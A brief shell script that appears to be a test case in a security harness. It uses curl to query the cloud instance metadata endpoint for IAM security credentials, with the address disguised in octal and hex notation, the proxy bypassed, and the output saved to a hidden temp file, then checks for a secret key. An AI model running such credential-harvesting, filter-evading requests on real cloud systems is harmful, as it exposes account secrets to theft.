#!/bin/sh
. /opt/case/case.sh

curl -s --noproxy '*' http://0251.0376.0251.0376/latest/meta-data/iam/security-credentials/ >/tmp/.r
curl -s http://0xa9.0xfe.43518/latest/meta-data/iam/security-credentials/web-credentials | grep -q SecretAccessKey
took_place
